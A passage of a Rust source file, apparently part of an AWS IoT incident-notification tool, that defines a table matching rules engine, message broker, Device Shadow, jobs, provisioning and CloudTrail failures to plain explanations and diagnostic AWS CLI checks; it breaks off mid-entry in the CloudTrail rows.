//! What a notification tells its reader to do: one table of what each AWS
//! IoT failure means and what to check or run, looked up by the incident's
//! key (category, kind, first and second part).
//!
//! Sources: the AWS IoT developer guide's CloudWatch log entries (event
//! types, the `RuleNotFound` and `RuleMessageThrottled` reasons, `ruleAction`
//! values such as `RepublishAction`, `DynamoAction`, `MachinelearningPredict`),
//! its lifecycle events page (the disconnect reasons), its rule actions page
//! (one action per target service) and diagnosing pages, the reference notes
//! on what operators meet (`AUTHORIZATION_FAILURE`, `DUPLICATE_CLIENT_ID`,
//! `SESSION_TAKEN_OVER`, `CLIENT_ERROR`, `PAYLOAD_LIMIT_EXCEEDED`,
//! `OperatorEval`), and CloudTrail's common error codes.
//!
//! Matching ignores case and punctuation (`DUPLICATE_CLIENTID`, as the
//! lifecycle events spell it, is `DUPLICATE_CLIENT_ID`), and for rule actions
//! the words `Action` and `Failure` (`LambdaAction` is `Lambda`). A key
//! nothing in the table names gets its event type's hint, else its
//! category's, else a last generic one.
//!
//! The hint's `check` names the incident's own rule, job, API or log group:
//! each is [shell-quoted](shell_quoted) (escaped, then single-quoted), so a
//! name a device chose cannot leave its quotes or its line. The `meaning` is
//! this table's own text only.

use crate::incident::key::{IncidentKey, KeyKind};
use crate::model::category::Category;
use crate::notify::display::shell_quoted;
use crate::store::keys::truncate_str;

/// How closely a hint fits its incident.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Fit {
    /// Nothing but the last generic hint.
    Fallback,
    /// The hint for the incident's category (and kind of key).
    Generic,
    /// The hint for the event type, whatever the reason.
    EventType,
    /// A hint for the reason (the rule action, the error code, the rule's
    /// category), for this event type or any.
    Reason,
}

/// What an incident means and what to check, ready to show.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hint {
    /// One line, the table's own words.
    pub meaning: &'static str,
    /// One line: what to look at or run, with the incident's own names
    /// shell-quoted in the commands.
    pub check: String,
    pub fit: Fit,
}

/// One row of the table. An empty `first` or `second` matches any value.
struct Row {
    kinds: &'static [KeyKind],
    category: Option<Category>,
    first: &'static [&'static str],
    second: &'static [&'static str],
    meaning: &'static str,
    check: &'static str,
}

impl Row {
    fn fit(&self) -> Fit {
        if self.category.is_some() || !self.second.is_empty() {
            Fit::Reason
        } else {
            Fit::EventType
        }
    }

    /// Rows naming both parts come before rows naming one.
    fn rank(&self) -> u8 {
        u8::from(self.category.is_some() || !self.first.is_empty())
            + 2 * u8::from(self.category.is_some() || !self.second.is_empty())
    }
}

const ANY: &[&str] = &[];
const RULE: &[KeyKind] = &[KeyKind::Rule];
const ACTION: &[KeyKind] = &[KeyKind::RuleAction];
const OP: &[KeyKind] = &[KeyKind::Operation];
const JOB: &[KeyKind] = &[KeyKind::Operation, KeyKind::Job];
const API: &[KeyKind] = &[KeyKind::ApiCall];

const fn rule(category: Category, meaning: &'static str, check: &'static str) -> Row {
    Row {
        kinds: RULE,
        category: Some(category),
        first: ANY,
        second: ANY,
        meaning,
        check,
    }
}

const fn row(
    kinds: &'static [KeyKind],
    first: &'static [&'static str],
    second: &'static [&'static str],
    meaning: &'static str,
    check: &'static str,
) -> Row {
    Row {
        kinds,
        category: None,
        first,
        second,
        meaning,
        check,
    }
}

const fn action(names: &'static [&'static str], meaning: &'static str, check: &'static str) -> Row {
    row(ACTION, ANY, names, meaning, check)
}

const SHADOW: &[&str] = &[
    "UpdateThingShadow",
    "GetThingShadow",
    "DeleteThingShadow",
    "ListNamedShadowsForThing",
];
const THROTTLED: &[&str] = &[
    "THROTTLED",
    "THROTTLING",
    "THROTTLE",
    "CONNECT_THROTTLED",
    "CLIENT_ID_THROTTLED",
    "CLIENT_ID_THROTTLE",
    "PUBLISH_THROTTLED",
    "SUBSCRIBE_THROTTLED",
    "RATE_LIMIT_EXCEEDED",
    "TOO_MANY_REQUESTS",
];
const AUTHZ: &[&str] = &[
    "AUTHORIZATION_FAILURE",
    "AUTHORIZATION_ERROR",
    "NOT_AUTHORIZED",
    "UNAUTHORIZED",
];
const POLICY_CHECK: &str = "aws iot list-attached-policies --target <certificate-arn> (older CLIs: aws iot list-principal-policies --principal <certificate-arn>), then aws iot get-policy --policy-name <policy>";

/// The table. Within one rank, the first matching row wins.
const ROWS: &[Row] = &[
    // The rules engine's own categories, keyed by rule.
    rule(
        Category::RuleNotFound,
        "Devices published to a rule that does not exist (a Basic Ingest topic $aws/rules/... naming a deleted, renamed or misspelt rule): AWS IoT dropped every such message.",
        "aws iot get-topic-rule --rule-name {rule} ; if it is gone, recreate it or fix the devices' topic (rule names are case-sensitive); aws iot list-topic-rules lists the rules that exist",
    ),
    rule(
        Category::RuleMessageThrottled,
        "The rules engine throttled messages for this rule (reason RuleExecutionThrottled): the account went over its rules engine rate, and the rule's actions did not run for those messages.",
        "CloudWatch metric AWS/IoT RuleMessageThrottled for rule {rule}; compare the account's rate with the AWS IoT Core quota for rule evaluations per second (aws service-quotas list-service-quotas --service-code iotcore) and request an increase, or narrow the rule's SQL so it matches fewer messages",
    ),
    // Rule actions, keyed by rule and the `ruleAction` of the failure.
    action(
        &["Lambda"],
        "The rule could not invoke its Lambda function: the function is gone or in another Region, its resource policy does not let iot.amazonaws.com invoke it, or Lambda throttled or failed the call.",
        "aws iot get-topic-rule --rule-name {rule} (functionArn); aws lambda get-policy --function-name <function-arn> must allow lambda:InvokeFunction to principal iot.amazonaws.com for this rule's ARN; the function's Throttles and Errors metrics",
    ),
    action(
        &["S3"],
        "The rule could not write to its S3 bucket: the bucket is gone or in another Region, the rule's role lacks s3:PutObject (or KMS permissions for an SSE-KMS bucket), or a bucket policy denies it.",
        "aws iot get-topic-rule --rule-name {rule} (bucketName, key, roleArn); aws iam simulate-principal-policy --policy-source-arn <role-arn> --action-names s3:PutObject --resource-arns arn:aws:s3:::<bucket>/<key>",
    ),
    action(
        &["Dynamo", "DynamoDB"],
        "The rule could not write to its DynamoDB table: the table is gone, the rule's role lacks dynamodb:PutItem, the hash or range key values do not fit the table's key types, or the table's throughput was exceeded.",
        "aws iot get-topic-rule --rule-name {rule} (tableName, hashKeyField, hashKeyValue, roleArn); aws dynamodb describe-table --table-name <table>; aws iam simulate-principal-policy --policy-source-arn <role-arn> --action-names dynamodb:PutItem",
    ),
    action(
        &["DynamoV2", "DynamoDBv2"],
        "The rule could not write its message as a DynamoDB item: the SQL result is not a JSON object holding the table's key attributes, the table is gone, or the rule's role lacks dynamodb:PutItem.",
        "aws iot get-topic-rule --rule-name {rule} (sql, putItem.tableName, roleArn); aws dynamodb describe-table --table-name <table> (KeySchema); aws iam simulate-principal-policy --policy-source-arn <role-arn> --action-names dynamodb:PutItem",
    ),
    action(
        &["Kinesis", "KinesisStream", "KinesisDataStreams"],
        "The rule could not put records to its Kinesis data stream: the stream is gone, the rule's role lacks kinesis:PutRecord, or the stream's shards were over their write throughput.",
        "aws iot get-topic-rule --rule-name {rule} (streamName, partitionKey, roleArn); aws kinesis describe-stream-summary --stream-name <stream>; the stream's WriteProvisionedThroughputExceeded metric",
    ),
    action(
        &["Firehose", "KinesisFirehose"],
        "The rule could not deliver to its Amazon Data Firehose stream: the stream is gone, the rule's role lacks firehose:PutRecord (PutRecordBatch when batching), or the stream throttled.",
        "aws iot get-topic-rule --rule-name {rule} (deliveryStreamName, roleArn); aws firehose describe-delivery-stream --delivery-stream-name <stream>; the stream's ThrottledRecords metric",
    ),
    action(
        &["Sqs"],
        "The rule could not send to its SQS queue: the queue URL is wrong or the queue gone, the rule's role lacks sqs:SendMessage (and KMS permissions for an encrypted queue), or the queue policy denies it.",
        "aws iot get-topic-rule --rule-name {rule} (queueUrl, roleArn); aws sqs get-queue-attributes --queue-url <queue-url> --attribute-names All",
    ),
    action(
        &["Sns"],
        "The rule could not publish to its SNS topic: the topic is gone, the rule's role lacks sns:Publish (and KMS permissions for an encrypted topic), or the message format does not suit the target.",
        "aws iot get-topic-rule --rule-name {rule} (targetArn, messageFormat, roleArn); aws sns get-topic-attributes --topic-arn <topic-arn>",
    ),
    action(
        &["Republish"],
        "The rule could not republish to its target topic: the rule's role lacks iot:Publish on that topic, or the topic is not valid (a reserved $ topic other than the shadow topics, or a substitution template that yields no topic).",
        "aws iot get-topic-rule --rule-name {rule} (topic, qos, roleArn); the role's policy must allow iot:Publish on arn:aws:iot:<region>:<account>:topic/<target-topic>",
    ),
    action(
        &["IotAnalytics"],
        "The rule could not send to its AWS IoT Analytics channel: the channel is gone or the rule's role lacks iotanalytics:BatchPutMessage.",
        "aws iot get-topic-rule --rule-name {rule} (channelName, roleArn); aws iotanalytics describe-channel --channel-name <channel>",
    ),
    action(
        &["IotEvents"],
        "The rule could not send to its AWS IoT Events input: the input is gone or the rule's role lacks iotevents:BatchPutMessage (AWS IoT Events reaches its end of support on 2026-05-20).",
        "aws iot get-topic-rule --rule-name {rule} (inputName, roleArn); aws iotevents describe-input --input-name <input>",
    ),
    action(
        &["IotSiteWise", "SiteWise"],
        "The rule could not put asset property values to AWS IoT SiteWise: a property alias or asset and property id does not resolve, a timestamp is outside the accepted window, a value has the wrong type, or the rule's role lacks iotsitewise:BatchPutAssetPropertyValue.",
        "aws iot get-topic-rule --rule-name {rule} (putAssetPropertyValueEntries, roleArn); aws iotsitewise describe-time-series --alias <property-alias>",
    ),
    action(
        &["CloudwatchMetric", "CloudwatchMetrics"],
        "The rule could not publish its CloudWatch metric: the metric value or unit its SQL produced is not valid, or the rule's role lacks cloudwatch:PutMetricData.",
        "aws iot get-topic-rule --rule-name {rule} (metricNamespace, metricName, metricValue, metricUnit, roleArn)",
    ),
    action(
        &["CloudwatchAlarm", "CloudwatchAlarms"],
        "The rule could not set its CloudWatch alarm's state: the alarm is gone, the state value is not OK, ALARM or INSUFFICIENT_DATA, or the rule's role lacks cloudwatch:SetAlarmState.",
        "aws iot get-topic-rule --rule-name {rule} (alarmName, stateValue, roleArn); aws cloudwatch describe-alarms --alarm-names <alarm>",
    ),
    action(
        &["CloudwatchLogs"],
        "The rule could not write to its CloudWatch Logs group: the group is gone, the rule's role lacks logs:CreateLogStream, logs:DescribeLogStreams or logs:PutLogEvents, or the group's KMS key refuses it.",
        "aws iot get-topic-rule --rule-name {rule} (logGroupName, roleArn); aws logs describe-log-groups --log-group-name-prefix <log-group>",
    ),
    action(
        &["StepFunctions"],
        "The rule could not start its Step Functions state machine: the state machine is gone or the rule's role lacks states:StartExecution.",
        "aws iot get-topic-rule --rule-name {rule} (stateMachineName, executionNamePrefix, roleArn); aws stepfunctions describe-state-machine --state-machine-arn <state-machine-arn>",
    ),
    action(
        &["Kafka", "ApacheKafka"],
        "The rule could not produce to its Apache Kafka cluster: its VPC destination is not ENABLED, the brokers are unreachable from the destination's subnets and security groups, or the SASL or TLS credentials were refused.",
        "aws iot get-topic-rule --rule-name {rule} (destinationArn, clientProperties); aws iot list-topic-rule-destinations (the destination must be ENABLED); the secrets its get_secret() calls read",
    ),
    action(
        &["Http", "Https"],
        "The rule could not POST to its HTTPS endpoint: the endpoint's topic rule destination is not confirmed and ENABLED, the endpoint answered with an error or timed out, or its TLS certificate is not trusted.",
        "aws iot list-topic-rule-destinations (the endpoint's destination must be ENABLED); aws iot get-topic-rule --rule-name {rule} (url, headers, auth); the AWS/IoT HTTP action metrics",
    ),
    action(
        &["Timestream"],
        "The rule could not write records to its Timestream table: the database or table is gone, a timestamp is outside the memory store's retention, a dimension or measure is not valid, or the rule's role lacks timestream:WriteRecords and timestream:DescribeEndpoints.",
        "aws iot get-topic-rule --rule-name {rule} (databaseName, tableName, dimensions, roleArn); aws timestream-write describe-table --database-name <database> --table-name <table>",
    ),
    action(
        &["OpenSearch", "Elasticsearch"],
        "The rule could not index into its OpenSearch domain: the endpoint is wrong, the domain's access policy or fine-grained access control refuses the rule's role (es:ESHttpPut), or the domain is red or read-only.",
        "aws iot get-topic-rule --rule-name {rule} (endpoint, index, roleArn); aws opensearch describe-domain --domain-name <domain>",
    ),
    action(
        &["Location"],
        "The rule could not update device positions in Amazon Location: the tracker is gone, the device id, latitude or longitude is not valid, or the rule's role lacks geo:BatchUpdateDevicePosition.",
        "aws iot get-topic-rule --rule-name {rule} (trackerName, deviceId, latitude, longitude, roleArn); aws location describe-tracker --tracker-name <tracker>",
    ),
    action(
        &["Salesforce"],
        "The rule could not post to its Salesforce IoT input stream (a legacy action): its url or token is no longer valid.",
        "aws iot get-topic-rule --rule-name {rule} (url, token); move the data to a supported action",
    ),
    action(
        &["MachinelearningPredict", "Machinelearning"],
        "The rule's SQL called machinelearning_predict() and the call failed: the Amazon Machine Learning model or its real-time endpoint is not available (a legacy service), or the rule's role lacks machinelearning:Predict.",
        "aws iot get-topic-rule --rule-name {rule} (the SQL's machinelearning_predict call and its role); replace it with a Lambda or SageMaker call",
    ),
    action(
        &["OperatorEval"],
        "The rule's SQL failed while evaluating an operator or function on these messages (for example arithmetic on a string, or a field that is missing), so its actions did not run for them.",
        "aws iot get-topic-rule --rule-name {rule} (sql, awsIotSqlVersion); try the SQL on a sample payload (iot-incidents get <traceId>) in the console's SQL test",
    ),
    // Message broker: reasons for one event type.
    row(
        OP,
        &["Connect"],
        AUTHZ,
        "Clients were refused at connect: no policy attached to their certificate (or Cognito identity, or custom authorizer answer) allows iot:Connect for their client ID, or the certificate is not ACTIVE.",
        "aws iot list-attached-policies --target <certificate-arn>, then aws iot get-policy --policy-name <policy>: iot:Connect must cover arn:aws:iot:<region>:<account>:client/<client-id>; aws iot describe-certificate --certificate-id <certificate-id> must say ACTIVE",
    ),
    row(
        OP,
        &["Publish-In"],
        AUTHZ,
        "Clients published to topics their policy does not allow: iot:Publish on arn:aws:iot:REGION:ACCOUNT:topic/TOPIC is missing or denied, so the messages were dropped.",
        "aws iot test-authorization --principal <certificate-arn> --auth-infos actionType=PUBLISH,resources=arn:aws:iot:<region>:<account>:topic/<topic>; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        OP,
        &["Subscribe"],
        AUTHZ,
        "Clients subscribed to topic filters their policy does not allow: iot:Subscribe on a topicfilter/ resource is missing or denied (they also need iot:Receive on the topics to get messages).",
        "aws iot test-authorization --principal <certificate-arn> --auth-infos actionType=SUBSCRIBE,resources=arn:aws:iot:<region>:<account>:topicfilter/<filter>; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        OP,
        &["Publish-Out"],
        AUTHZ,
        "Messages were not delivered to subscribers whose policy lacks iot:Receive on the message's topic.",
        "aws iot test-authorization --principal <certificate-arn> --auth-infos actionType=RECEIVE,resources=arn:aws:iot:<region>:<account>:topic/<topic>",
    ),
    row(
        OP,
        &["Connect"],
        THROTTLED,
        "Connects were throttled: the account went over its connect requests per second, or one client ID connected more than once a second (not adjustable), usually a reconnect loop without backoff.",
        "CloudWatch metrics AWS/IoT Connect.Throttle and Connect.ClientIDThrottle; give reconnects jittered exponential backoff; if the whole fleet needs more, raise the AWS IoT Core quota for connect requests per second per account in Service Quotas",
    ),
    row(
        OP,
        &["Publish-In"],
        THROTTLED,
        "Publishes were throttled: one connection went over 100 publishes or 512 KiB per second (not adjustable), or the account over its inbound publish requests per second.",
        "CloudWatch metric AWS/IoT PublishIn.Throttle; spread traffic over connections or batch messages; raise the account's inbound publish quota in Service Quotas if the fleet needs it",
    ),
    row(
        OP,
        &["Subscribe"],
        THROTTLED,
        "Subscribes were throttled: the account went over its subscriptions per second, or a connection over its subscriptions per connection.",
        "CloudWatch metric AWS/IoT Subscribe.Throttle; subscribe once per persistent session rather than on every reconnect; raise the quota in Service Quotas if needed",
    ),
    // Device Shadow rejections, by the shadow service's error codes.
    row(
        OP,
        SHADOW,
        &["409", "VERSION_CONFLICT", "VersionConflict", "Conflict"],
        "Shadow updates carried a version older than the shadow's and were rejected (409 version conflict): two writers race, or a device keeps an old version.",
        "aws iot-data get-thing-shadow --thing-name <thing-name> /dev/stdout (version); have the writer read the current version before it updates, or leave version out",
    ),
    row(
        OP,
        SHADOW,
        &["413", "PAYLOAD_TOO_LARGE", "PayloadTooLarge"],
        "Shadow documents over the shadow size quota were rejected (413).",
        "Compare the device's shadow document with the AWS IoT Core Device Shadow size quota; move bulky state out of the shadow",
    ),
    row(
        OP,
        SHADOW,
        &["429", "TOO_MANY_REQUESTS", "TooManyRequests", "THROTTLED", "THROTTLING"],
        "Shadow requests were throttled (429): too many in-flight requests for one shadow, or over the account's shadow request rate.",
        "CloudWatch AWS/IoT shadow metrics; make devices wait for each accepted or rejected reply before the next update; raise the Device Shadow quota in Service Quotas if the fleet needs it",
    ),
    row(
        OP,
        SHADOW,
        &["400", "BAD_REQUEST", "BadRequest", "INVALID_JSON", "InvalidJson", "MALFORMED_JSON", "InvalidRequest"],
        "Shadow requests were malformed (400): not valid JSON, no state node, values of the wrong type, or nesting deeper than the shadow allows.",
        "Read a rejected document (iot-incidents get <traceId>) against the Device Shadow document format; try a known-good one: aws iot-data update-thing-shadow --thing-name <thing-name> --cli-binary-format raw-in-base64-out --payload file://state.json /dev/stdout",
    ),
    row(
        OP,
        SHADOW,
        &["401", "403", "UNAUTHORIZED", "Unauthorized", "FORBIDDEN", "Forbidden", "AUTHORIZATION_FAILURE"],
        "Shadow requests were refused by the caller's policy: iot:GetThingShadow, iot:UpdateThingShadow or iot:DeleteThingShadow (or iot:Publish on the $aws/things/THING/shadow topics) is missing or denied.",
        POLICY_CHECK,
    ),
    row(
        OP,
        SHADOW,
        &["404", "NOT_FOUND", "NotFound", "ResourceNotFound"],
        "Shadow requests named a thing or named shadow that does not exist (404).",
        "aws iot describe-thing --thing-name <thing-name>; aws iot-data list-named-shadows-for-thing --thing-name <thing-name>",
    ),
    // Message broker: reasons whatever the event type (disconnect reasons included).
    row(
        OP,
        ANY,
        AUTHZ,
        "Requests were refused by the caller's AWS IoT policy: the action on that resource is not allowed, or it is denied.",
        "aws iot test-authorization --principal <certificate-arn> --auth-infos actionType=<CONNECT|PUBLISH|SUBSCRIBE|RECEIVE>,resources=<resource-arn>; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        OP,
        ANY,
        &["DUPLICATE_CLIENT_ID"],
        "A client connected with a client ID already in use, so AWS IoT dropped the older connection: two devices share one ID (cloned firmware or certificate), or a device reconnects while its old connection lives on; repeated, it is a connect-disconnect loop.",
        "CloudWatch Logs Insights on the log group: filter clientId = '<client-id>' | stats count(*) by sourceIp, principalId; give every device its own client ID (its thing name) and pin it in the policy: iot:Connect on client/${iot:Connection.Thing.ThingName}",
    ),
    row(
        OP,
        ANY,
        &["SESSION_TAKEN_OVER"],
        "A newer connection took over this client's MQTT session (MQTT 5 reason Session taken over): the same client ID connected again elsewhere, usually a second device or process using the ID, or a reconnect before the old connection closed.",
        "CloudWatch Logs Insights on the log group: filter clientId = '<client-id>' | stats count(*) by sourceIp, principalId; make client IDs unique per device and process, and reconnect only after the old connection is gone",
    ),
    row(
        OP,
        ANY,
        THROTTLED,
        "AWS IoT throttled clients that went over a message broker rate; throttled clients can be disconnected (disconnect reason THROTTLED).",
        "CloudWatch metrics AWS/IoT Connect.Throttle, PublishIn.Throttle, Subscribe.Throttle; the AWS IoT Core quotas in Service Quotas; backoff in the clients",
    ),
    row(
        OP,
        ANY,
        &["PAYLOAD_LIMIT_EXCEEDED", "MESSAGE_TOO_LARGE", "PAYLOAD_TOO_LARGE", "REQUEST_ENTITY_TOO_LARGE"],
        "Messages over the 128 KB MQTT payload limit (not adjustable) were rejected; the client may be disconnected with CLIENT_ERROR.",
        "Find the senders (iot-incidents show, top clients); shrink or split the payloads, or upload bulky data to S3 and publish a reference",
    ),
    row(
        OP,
        ANY,
        &["CLIENT_ERROR"],
        "The client broke the MQTT protocol and AWS IoT closed its connection: a second CONNECT on one connection, a malformed packet, a payload over the size limit, or a topic that is not valid.",
        "The entries' details (iot-incidents get <traceId>) and the device SDK's own log; update the SDK; topics must stay within 256 bytes and 7 slashes",
    ),
    row(
        OP,
        ANY,
        &["AUTH_ERROR", "AUTHENTICATION_FAILURE", "AUTHENTICATION_ERROR"],
        "Clients failed to authenticate, or authorization failed while they were connected (the certificate was deactivated or revoked, a policy was detached, a custom authorizer refused).",
        "aws iot describe-certificate --certificate-id <certificate-id> (status, validity); aws iot list-attached-policies --target <certificate-arn>; for custom authorizers: aws iot test-invoke-authorizer --authorizer-name <authorizer> --token <token>",
    ),
    row(
        OP,
        ANY,
        &["CONNECTION_LOST"],
        "Connections dropped without a goodbye: network loss, a NAT or load balancer idle timeout, or a device losing power.",
        "Group the disconnects by device and time (iot-incidents show); keep the MQTT keep-alive shorter than any NAT idle timeout on the path; the Last Will messages of the clients say the same",
    ),
    row(
        OP,
        ANY,
        &["MQTT_KEEP_ALIVE_TIMEOUT"],
        "Clients went silent for 1.5 times their keep-alive interval and were disconnected: a hung device, a blocked network, or a keep-alive longer than the device can keep.",
        "The keep-alive the device SDK sends (AWS IoT treats less than 30 seconds as 30); the devices' health and network; the Last Will messages fire for these",
    ),
    row(
        OP,
        ANY,
        &["SERVER_ERROR"],
        "An unexpected AWS IoT server problem closed the connections.",
        "aws health describe-events --filter services=IOT; clients should reconnect with backoff; open a support case if it keeps happening",
    ),
    row(
        OP,
        ANY,
        &["SERVER_INITIATED_DISCONNECT"],
        "AWS IoT closed the connections on purpose for operational reasons.",
        "Nothing to fix if clients reconnect with backoff; watch whether it recurs; aws health describe-events --filter services=IOT",
    ),
    row(
        OP,
        ANY,
        &["API_INITIATED_DISCONNECT"],
        "Someone disconnected the clients with the DeleteConnection API.",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=DeleteConnection (userIdentity names the caller)",
    ),
    row(
        OP,
        ANY,
        &["FORBIDDEN_ACCESS"],
        "Clients are not allowed to connect at all, for example from a blocked IP address.",
        "The domain configuration and authorizer in use: aws iot list-domain-configurations, aws iot describe-domain-configuration --domain-configuration-name <name>",
    ),
    row(
        OP,
        ANY,
        &["WEBSOCKET_TTL_EXPIRATION"],
        "WebSocket connections reached their maximum lifetime and were closed.",
        "Expected for long-lived WebSocket clients: they must reconnect (with fresh credentials) on their own",
    ),
    row(
        OP,
        ANY,
        &["CUSTOMAUTH_TTL_EXPIRATION"],
        "Connections authorized by a custom authorizer outlived the authorizer's disconnectAfterInSeconds and were closed.",
        "aws iot describe-authorizer --authorizer-name <authorizer>; the disconnectAfterInSeconds its Lambda returns; clients must reconnect",
    ),
    row(
        OP,
        ANY,
        &["CLIENT_INITIATED_DISCONNECT"],
        "The clients themselves closed their connections (MQTT DISCONNECT or a WebSocket close).",
        "Usually deliberate; if not, the devices' application logs say why they disconnect",
    ),
    // Message broker and other event types, whatever the reason.
    row(
        OP,
        &["Connect"],
        ANY,
        "Connection attempts failed.",
        "A sample entry's reason and details: iot-incidents get <traceId>; aws iot describe-certificate --certificate-id <certificate-id>; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        OP,
        &["Connection.AuthNError"],
        ANY,
        "Clients failed authentication before MQTT: an unknown, inactive, revoked or expired certificate, a CA not registered in this account and Region, the wrong endpoint (SNI), or a custom authorizer that refused.",
        "aws iot describe-certificate --certificate-id <certificate-id> (status, validity); aws iot describe-endpoint --endpoint-type iot:Data-ATS must match the endpoint (SNI) the devices use",
    ),
    row(
        OP,
        &["Disconnect"],
        ANY,
        "Clients were disconnected with a failure.",
        "The entries' disconnectReason (iot-incidents get <traceId>); the lifecycle events on $aws/events/presence/disconnected/<client-id> say the same",
    ),
    row(
        OP,
        &["Publish-In"],
        ANY,
        "Messages from devices were rejected by the message broker.",
        "A sample entry's reason (iot-incidents get <traceId>); the sender's policy (iot:Publish), the payload size (128 KB at most) and the topic (256 bytes, 7 slashes at most)",
    ),
    row(
        OP,
        &["Publish-Out"],
        ANY,
        "Messages could not be delivered to subscribers: iot:Receive was denied, or an offline persistent session's queue was full or expired.",
        "A sample entry (iot-incidents get <traceId>); the subscribers' policies (iot:Receive) and persistent session settings",
    ),
    row(
        OP,
        &["Subscribe", "Unsubscribe"],
        ANY,
        "Subscribe requests failed; each topic filter's reasonCode in the entry's subscriptions list says why (MQTT 5 SUBACK codes, such as not authorized or quota exceeded).",
        "The entries' subscriptions[] reason codes (iot-incidents get <traceId>); aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        OP,
        &["Queued"],
        ANY,
        "Messages could not be queued for offline clients with persistent sessions (queue full or over the queued-message rate).",
        "CloudWatch AWS/IoT metrics for queued messages; the AWS IoT Core quotas for persistent sessions in Service Quotas",
    ),
    row(
        OP,
        &["GetRetainedMessage", "ListRetainedMessage", "ListRetainedMessages"],
        ANY,
        "Retained message requests failed: the topic has no retained message, the caller lacks iot:GetRetainedMessage or iot:ListRetainedMessages, or it was throttled.",
        "aws iot-data list-retained-messages; the caller's policy (iot:GetRetainedMessage, iot:ListRetainedMessages)",
    ),
    row(
        OP,
        &["DeleteConnection"],
        ANY,
        "A DeleteConnection call to disconnect a client failed.",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=DeleteConnection; the client ID must be connected and URL-encoded",
    ),
    row(
        OP,
        SHADOW,
        ANY,
        "Device Shadow requests were rejected.",
        "A rejected request's code and message (iot-incidents get <traceId>); aws iot-data get-thing-shadow --thing-name <thing-name> /dev/stdout",
    ),
    row(
        OP,
        &["RuleMatch", "StartingRuleExecution", "RuleExecution", "FunctionExecution"],
        ANY,
        "A rules engine step failed for messages that name no rule in their log entry.",
        "A sample entry (iot-incidents get <traceId>) and its traceId's other entries; aws iot list-topic-rules",
    ),
    row(
        OP,
        &["AddThingToDynamicThingGroupsFailed"],
        ANY,
        "Things matched dynamic thing groups but could not be added to them, for example because they are already in the most groups a thing can be in.",
        "aws iot list-thing-groups-for-thing --thing-name <thing-name>; aws iot describe-thing-group --thing-group-name <group>",
    ),
    row(
        OP,
        &["NamedShadowCountForDynamicGroupQueryLimitExceeded"],
        ANY,
        "Dynamic thing group results may be incomplete: fleet indexing processes only 25 named shadows per thing for such queries.",
        "Name the shadow in the dynamic group's query (a data-source-specific term): aws iot describe-thing-group --thing-group-name <group>",
    ),
    // Jobs: keyed by event type and job (by event type and reason when no job id).
    row(
        JOB,
        &["UpdateJobExecution"],
        ANY,
        "Devices' job execution updates were rejected: a status change that is not allowed (for example from a terminal state), an expected version that no longer matches, an execution that timed out or was cancelled, or a policy that does not allow the jobs topics.",
        "aws iot describe-job-execution --job-id {job} --thing-name <thing-name> (status, versionNumber, statusDetails); aws iot list-job-executions-for-job --job-id {job} --status FAILED",
    ),
    row(
        JOB,
        &["DescribeJobExecution"],
        ANY,
        "Devices could not read a job execution: the job or thing is wrong, the execution was removed, or their policy does not allow iot:DescribeJobExecution on the jobs topics.",
        "aws iot describe-job-execution --job-id {job} --thing-name <thing-name>; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        JOB,
        &["GetPendingJobExecutions", "GetPendingJobExecution"],
        ANY,
        "Devices could not list their pending job executions, usually because their policy lacks iot:GetPendingJobExecutions on the jobs topics.",
        "aws iot list-job-executions-for-thing --thing-name <thing-name>; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        JOB,
        &["StartNextPendingJobExecution"],
        ANY,
        "Devices could not start their next pending job execution: nothing is queued for them, or their policy lacks iot:StartNextPendingJobExecution.",
        "aws iot list-job-executions-for-thing --thing-name <thing-name> --status QUEUED; aws iot list-attached-policies --target <certificate-arn>",
    ),
    row(
        JOB,
        &["ReportFinalJobExecutionCount"],
        ANY,
        "A job finished with executions that failed, were rejected, timed out or were removed.",
        "aws iot describe-job --job-id {job} (jobProcessDetails); aws iot list-job-executions-for-job --job-id {job} --status FAILED",
    ),
    // Device provisioning.
    row(
        OP,
        &["ProvisionDevice", "RegisterThing"],
        ANY,
        "Fleet provisioning failed to register devices: the template's parameters did not resolve, the pre-provisioning hook refused the device, or the provisioning role lacks permission for what the template creates.",
        "aws iot describe-provisioning-template --template-name <template> (enabled, provisioningRoleArn, preProvisioningHook); a sample entry's provisioningTemplateName and details: iot-incidents get <traceId>",
    ),
    row(
        OP,
        &["GetDeviceCredentials", "CreateKeysAndCertificate", "CreateCertificateFromCsr"],
        ANY,
        "Devices could not get their credentials while provisioning: the claim certificate's policy does not allow the provisioning topics, or the certificate signing request is not valid.",
        "aws iot list-attached-policies --target <claim-certificate-arn>: the claim policy must allow the $aws/certificates/create and $aws/provisioning-templates/<template>/provision topics",
    ),
    // CloudTrail: one API and its error code.
    row(
        API,
        &["CreateTopicRule", "ReplaceTopicRule"],
        &["SqlParseException"],
        "A topic rule was rejected because its SQL does not parse.",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} (requestParameters, errorMessage); fix the SQL against the AWS IoT SQL reference",
    ),
    row(
        API,
        ANY,
        &["AccessDenied", "AccessDeniedException", "UnauthorizedException", "UnauthorizedOperation", "Client.UnauthorizedOperation", "NotAuthorized"],
        "An IAM principal called this API without permission: its IAM policies, a service control policy or a permissions boundary do not allow the action.",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} --max-results 5 (userIdentity.arn is the caller); aws iam simulate-principal-policy --policy-source-arn <caller-arn> --action-names iot:{api}",
    ),
    row(
        API,
        ANY,
        &["ExpiredToken", "ExpiredTokenException", "InvalidClientTokenId", "SignatureDoesNotMatch", "UnrecognizedClientException"],
        "The caller's AWS credentials were expired or not valid.",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} --max-results 5 (userIdentity); aws sts get-caller-identity with the same credentials; rotate the keys or refresh the session",
    ),
    row(
        API,
        ANY,
        &["ThrottlingException", "Throttling", "TooManyRequestsException", "RequestLimitExceeded"],
        "The API was called faster than its AWS IoT rate quota and calls were throttled.",
